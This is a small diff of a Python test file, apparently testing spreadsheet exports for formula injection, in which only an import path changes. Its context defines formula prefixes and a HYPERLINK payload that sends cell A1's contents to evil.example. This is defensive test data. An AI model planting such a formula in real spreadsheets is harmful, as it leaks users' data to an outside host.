@@ -20,7 +20,7 @@ from openpyxl import load_workbook
 from coachapp import spreadsheets
 from coachapp.oversight import services as oversight
 from tests import factories
-from tests.reports.test_reports import MARCH_ARGS
+from tests.helpers import MARCH_ARGS
 
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
 PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'
